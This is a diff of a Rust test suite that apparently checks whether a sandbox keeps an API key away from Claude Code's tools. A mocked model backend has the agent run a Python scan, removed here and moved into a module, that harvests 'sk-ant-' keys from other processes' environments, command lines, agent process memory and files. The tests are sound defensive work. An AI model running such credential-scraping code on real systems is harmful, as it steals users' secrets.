@@ -13,6 +13,7 @@ use std::path::PathBuf;
 use std::sync::Arc;
 use std::time::Duration;
 
+use attacks::agent_scan::{found, SCAN};
 use attacks::upstream::{Seen, Upstream};
 use attacks::*;
 
@@ -31,65 +32,6 @@ fn claude() -> PathBuf {
     );
     path
 }
-
-/// The tool call's search: key-shaped strings in every process's environ and cmdline, the
-/// agent's anonymous memory, and the files under the roots given.
-const SCAN: &str = r#"
-import os, re, sys
-pat = re.compile(rb"sk-ant-[A-Za-z0-9_-]{8,}")
-found, agents, regions, files, denied = set(), 0, 0, 0, 0
-pids = [p for p in os.listdir("/proc") if p.isdigit()]
-for p in pids:
-    for f in ("environ", "cmdline"):
-        try:
-            found.update(pat.findall(open(f"/proc/{p}/{f}", "rb").read()))
-        except OSError:
-            pass
-for p in pids:
-    try:
-        argv0 = open(f"/proc/{p}/cmdline", "rb").read().split(b"\0")[0]
-    except OSError:
-        continue
-    if not argv0.endswith(b"claude"):
-        continue
-    agents += 1
-    try:
-        maps, mem = open(f"/proc/{p}/maps"), open(f"/proc/{p}/mem", "rb")
-    except OSError:
-        denied += 1
-        continue
-    try:
-        with maps, mem:
-            for line in maps:
-                parts = line.split()
-                if "r" not in parts[1] or (len(parts) > 5 and parts[5].startswith("/")):
-                    continue
-                start, end = (int(x, 16) for x in parts[0].split("-"))
-                if end - start > 1 << 30:
-                    continue
-                try:
-                    mem.seek(start)
-                    found.update(pat.findall(mem.read(end - start)))
-                    regions += 1
-                except (OSError, ValueError, OverflowError):
-                    pass
-    except OSError:
-        pass
-for root in sys.argv[1:]:
-    for d, _, names in os.walk(root):
-        for n in names:
-            path = os.path.join(d, n)
-            try:
-                if os.path.islink(path) or os.path.getsize(path) > 16 << 20:
-                    continue
-                found.update(pat.findall(open(path, "rb").read()))
-                files += 1
-            except OSError:
-                pass
-print("SCAN agents=%d regions=%d denied=%d files=%d" % (agents, regions, denied, files))
-for f in sorted(found):
-    print("FOUND", f.decode())
-"#;
 
 /// The Messages API double: the prompt asks for the scan (a Bash tool call), the tool result
 /// gets a closing text; anything else a short text.
@@ -175,13 +117,6 @@ fn reply(stream: bool, tool: Option<&str>, text: &str) -> Vec<u8> {
 /// Claude Code's arguments and quiet settings.
 const ARGS: &[&str] = &["-p", "SCAN-NOW please", "--allowedTools", "Bash"];
 
-fn found(stdout: &str) -> Vec<&str> {
-    stdout
-        .lines()
-        .filter_map(|l| l.split_once("FOUND ").map(|(_, k)| k.trim()))
-        .collect()
-}
-
 #[test]
 fn claude_code_works_through_the_route_and_its_tools_never_find_the_key() {
     let claude = claude();
@@ -198,7 +133,11 @@ fn claude_code_works_through_the_route_and_its_tools_never_find_the_key() {
         PathBuf::from("/tmp"),
     ];
     let roots: Vec<String> = roots.iter().map(sh_quote).collect();
-    let tool = format!("/usr/bin/python3 {} {}", sh_quote(&scan), roots.join(" "));
+    let tool = format!(
+        "/usr/bin/python3 {} claude {}",
+        sh_quote(&scan),
+        roots.join(" ")
+    );
     let up = Upstream::start_with(Some(script(tool)));
     let policy = fx.out_file("p.toml");
     write_file(
@@ -299,7 +238,11 @@ fn control_without_stockade_the_same_tool_call_finds_the_key() {
     let scan = fx.script("scan.py", SCAN);
     let state = fx.root.join("claude-state");
     mkdir(&state);
-    let tool = format!("/usr/bin/python3 {} {}", sh_quote(&scan), sh_quote(&state));
+    let tool = format!(
+        "/usr/bin/python3 {} claude {}",
+        sh_quote(&scan),
+        sh_quote(&state)
+    );
     let up = Upstream::start_with(Some(script(tool)));
     let mut cmd = Cmd::new(&claude, &fx.ws)
         .env("HOME", &fx.home)
